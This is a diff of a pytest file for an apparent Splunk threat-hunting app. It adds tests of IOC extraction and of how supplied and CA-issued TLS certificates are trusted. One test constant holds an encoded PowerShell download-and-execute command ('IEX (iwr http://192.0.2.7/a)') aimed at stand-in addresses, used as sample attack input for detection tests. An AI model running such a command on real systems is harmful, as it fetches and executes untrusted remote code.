@@ -6,9 +6,10 @@ from contextlib import suppress
 
 import pytest
 
-from app.spl.splunkd import Command, command, encoded
+from app.spl.splunkd import Command, command, encoded, splunkd
 from tests.encoding import b64
-from tests.running_service import runs, wait_until
+from tests.running_service import TOKEN, runs, wait_until
+from tests.splunk.tls_server import Quiet, serving
 from tests.splunk_app.conftest import python_of_splunk
 
 COMMAND = f"powershell -enc {b64('IEX (iwr http://192.0.2.7/a); iwr http://192.0.2.8/b')}"
@@ -146,9 +147,22 @@ def test_wrong_token_is_told_and_not_shown(app, rest, token, message):
     assert "this-one" not in "".join(told)
 
 
-def test_certificate_for_another_name_is_told(app, rest):
+@pytest.mark.parametrize("version", ["3.9", "3.13"])
+def test_certificate_that_is_given_is_trusted_for_any_name(app, rest, version):
+    """The one that a container makes does not have the names by which it is reached."""
     rest.conf["url"] = rest.conf["url"].replace("127.0.0.1", "0.0.0.0")  # reaches the same
-    with command(app, "hunt") as hunt:
+    with command(app, "hunt", python_of_splunk(version)) as hunt:
+        hunt.getinfo(rest, "ioc_extract", "n")
+        reply = hunt.execute([{"n": "192.0.2.1"}], finished=True)
+    assert (reply.messages, reply.events[0]["ioc_ipv4"]) == ([], "192.0.2.1")
+
+
+def test_certificate_of_an_authority_is_for_its_name_only(app, tmp_path):
+    with (
+        serving(Quiet, tmp_path) as (port, ca),
+        splunkd(TOKEN, url=f"https://0.0.0.0:{port}", ca_path=str(ca)) as rest,
+        command(app, "hunt") as hunt,
+    ):
         hunt.getinfo(rest, "ioc_extract", "n")
         (told,) = hunt.execute([{"n": "1"}], finished=True).messages
     assert "write the URL with a name or address that the certificate is for" in told
